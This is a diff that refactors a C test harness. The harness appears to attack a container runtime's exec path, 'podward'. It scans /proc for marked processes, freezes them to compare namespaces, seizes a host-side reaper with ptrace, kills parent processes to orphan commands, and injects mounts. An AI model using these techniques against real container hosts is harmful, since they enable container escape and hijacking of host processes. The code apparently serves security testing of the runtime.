@@ -108,11 +108,9 @@ static int once(int pid, int kind) {
   return 0;
 }
 
-static void stage(void) {
-  static char own_mnt[65536], mnt[65536];
-  char own_net[4096], net[4096], p[64];
-  int own_len = slurp("/proc/self/mountinfo", own_mnt, sizeof own_mnt);
-  interfaces("/proc/self/net/dev", own_net, sizeof own_net);
+/* Marks the attacker ready, then hands every process it sees (but init and itself) to visit,
+ * scan after scan, pausing pause_us between them. */
+static void watch(void (*visit)(int pid), int pause_us) {
   int me = getpid();
   close(open("/out/ready", O_WRONLY | O_CREAT, 0644));
   for (;;) {
@@ -120,22 +118,38 @@ static void stage(void) {
     struct dirent *e;
     while (d && (e = readdir(d))) {
       int pid = atoi(e->d_name);
-      if (pid <= 1 || pid == me || !has_marker(pid)) continue;
-      kill(pid, SIGSTOP);
-      snprintf(p, sizeof p, "/proc/%d/mountinfo", pid);
-      int n = slurp(p, mnt, sizeof mnt);
-      snprintf(p, sizeof p, "/proc/%d/net/dev", pid);
-      interfaces(p, net, sizeof net);
-      int still = has_marker(pid);
-      kill(pid, SIGCONT);
-      if (!still) continue;
-      if (once(pid, 0)) note("saw %d\n", pid);
-      if (n >= 0 && (n != own_len || memcmp(mnt, own_mnt, n)) && once(pid, 1))
-        note("foreign-mnt %d\n", pid);
-      if (net[0] && strcmp(net, own_net) && once(pid, 2)) note("foreign-net %d %s\n", pid, net);
+      if (pid > 1 && pid != me) visit(pid);
     }
     if (d) closedir(d);
+    if (pause_us) usleep(pause_us);
   }
+}
+
+static char own_mnt[65536], own_net[4096];
+static int own_len;
+
+static void stage_one(int pid) {
+  static char mnt[65536];
+  char net[4096], p[64];
+  if (!has_marker(pid)) return;
+  kill(pid, SIGSTOP);
+  snprintf(p, sizeof p, "/proc/%d/mountinfo", pid);
+  int n = slurp(p, mnt, sizeof mnt);
+  snprintf(p, sizeof p, "/proc/%d/net/dev", pid);
+  interfaces(p, net, sizeof net);
+  int still = has_marker(pid);
+  kill(pid, SIGCONT);
+  if (!still) return;
+  if (once(pid, 0)) note("saw %d\n", pid);
+  if (n >= 0 && (n != own_len || memcmp(mnt, own_mnt, n)) && once(pid, 1))
+    note("foreign-mnt %d\n", pid);
+  if (net[0] && strcmp(net, own_net) && once(pid, 2)) note("foreign-net %d %s\n", pid, net);
+}
+
+static void stage(void) {
+  own_len = slurp("/proc/self/mountinfo", own_mnt, sizeof own_mnt);
+  interfaces("/proc/self/net/dev", own_net, sizeof own_net);
+  watch(stage_one, 0);
 }
 
 static long inject_mount(int pid) {
@@ -180,80 +194,53 @@ static long inject_mount(int pid) {
   return result;
 }
 
-static void trace(void) {
+static void trace_one(int pid) {
   char buf[4096];
-  mkdir("/tmp/pw", 0755);
-  close(open("/out/ready", O_WRONLY | O_CREAT, 0644));
-  for (;;) {
-    DIR *d = opendir("/proc");
-    struct dirent *e;
-    while (d && (e = readdir(d))) {
-      int pid = atoi(e->d_name);
-      if (pid <= 1 || cmdline(pid, buf, sizeof buf) <= 0 || strcmp(buf, "sleep 3607 ")) continue;
-      int reaper = parent_of(pid);
-      if (reaper <= 1 || !has_marker(reaper) || !once(reaper, 0)) continue;
-      note("reaper %d\n", reaper);
-      note("mount %d %ld\n", reaper, inject_mount(reaper));
-    }
-    if (d) closedir(d);
-    usleep(2000);
-  }
+  if (cmdline(pid, buf, sizeof buf) <= 0 || strcmp(buf, "sleep 3607 ")) return;
+  int reaper = parent_of(pid);
+  if (reaper <= 1 || !has_marker(reaper) || !once(reaper, 0)) return;
+  note("reaper %d\n", reaper);
+  note("mount %d %ld\n", reaper, inject_mount(reaper));
 }
 
-static void orphan(void) {
-  int me = getpid();
-  close(open("/out/ready", O_WRONLY | O_CREAT, 0644));
-  for (;;) {
-    DIR *d = opendir("/proc");
-    struct dirent *e;
-    while (d && (e = readdir(d))) {
-      int pid = atoi(e->d_name);
-      if (pid <= 1 || pid == me || !has_marker(pid)) continue;
-      int parent = parent_of(pid);
-      if (parent <= 1 || !has_marker(parent)) continue;
-      /* pid is the command before its execve, parent the reaper. */
-      if (kill(pid, SIGSTOP) == 0 && kill(parent, SIGKILL) == 0 && once(pid, 0))
-        note("orphaned %d %d\n", pid, parent);
-    }
-    if (d) closedir(d);
-  }
+static void trace(void) {
+  mkdir("/tmp/pw", 0755);
+  watch(trace_one, 2000);
+}
+
+static void orphan_one(int pid) {
+  if (!has_marker(pid)) return;
+  int parent = parent_of(pid);
+  if (parent <= 1 || !has_marker(parent)) return;
+  /* pid is the command before its execve, parent the reaper. */
+  if (kill(pid, SIGSTOP) == 0 && kill(parent, SIGKILL) == 0 && once(pid, 0))
+    note("orphaned %d %d\n", pid, parent);
 }
 
 /* The reaper: a process of the probe path whose parent is outside the container (PPID 0). */
-static void birth(void) {
-  int me = getpid();
-  close(open("/out/ready", O_WRONLY | O_CREAT, 0644));
+static void birth_one(int pid) {
+  if (!has_marker(pid) || parent_of(pid) != 0 || !once(pid, 1)) return;
+  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEFORK | PTRACE_O_TRACECLONE) < 0) {
+    note("seize-failed %d %d\n", pid, errno);
+    return;
+  }
+  /* Run the reaper on until it forks; the command is born stopped, traced by us. */
   for (;;) {
-    DIR *d = opendir("/proc");
-    struct dirent *e;
-    while (d && (e = readdir(d))) {
-      int pid = atoi(e->d_name);
-      if (pid <= 1 || pid == me || !has_marker(pid) || parent_of(pid) != 0) continue;
-      if (!once(pid, 1)) continue;
-      if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEFORK | PTRACE_O_TRACECLONE) < 0) {
-        note("seize-failed %d %d\n", pid, errno);
-        continue;
-      }
-      /* Run the reaper on until it forks; the command is born stopped, traced by us. */
-      for (;;) {
-        int st;
-        if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) {
-          note("gone %d\n", pid);
-          break;
-        }
-        int event = st >> 16;
-        if (event == PTRACE_EVENT_FORK || event == PTRACE_EVENT_CLONE) {
-          unsigned long child = 0;
-          ptrace(PTRACE_GETEVENTMSG, pid, 0, &child);
-          kill(pid, SIGKILL);
-          note("orphaned %lu %d\n", child, pid);
-          break;
-        }
-        int sig = WSTOPSIG(st);
-        ptrace(PTRACE_CONT, pid, 0, (event || sig == SIGTRAP) ? 0 : sig);
-      }
+    int st;
+    if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) {
+      note("gone %d\n", pid);
+      return;
     }
-    if (d) closedir(d);
+    int event = st >> 16;
+    if (event == PTRACE_EVENT_FORK || event == PTRACE_EVENT_CLONE) {
+      unsigned long child = 0;
+      ptrace(PTRACE_GETEVENTMSG, pid, 0, &child);
+      kill(pid, SIGKILL);
+      note("orphaned %lu %d\n", child, pid);
+      return;
+    }
+    int sig = WSTOPSIG(st);
+    ptrace(PTRACE_CONT, pid, 0, (event || sig == SIGTRAP) ? 0 : sig);
   }
 }
 
@@ -261,7 +248,7 @@ int main(int argc, char **argv) {
   snprintf(marker, sizeof marker, "%s%s", "__podward-exec-", "init");
   if (argc > 1 && !strcmp(argv[1], "stage")) stage();
   if (argc > 1 && !strcmp(argv[1], "ptrace")) trace();
-  if (argc > 1 && !strcmp(argv[1], "orphan")) orphan();
-  if (argc > 1 && !strcmp(argv[1], "birth")) birth();
+  if (argc > 1 && !strcmp(argv[1], "orphan")) watch(orphan_one, 0);
+  if (argc > 1 && !strcmp(argv[1], "birth")) watch(birth_one, 0);
   return 2;
 }
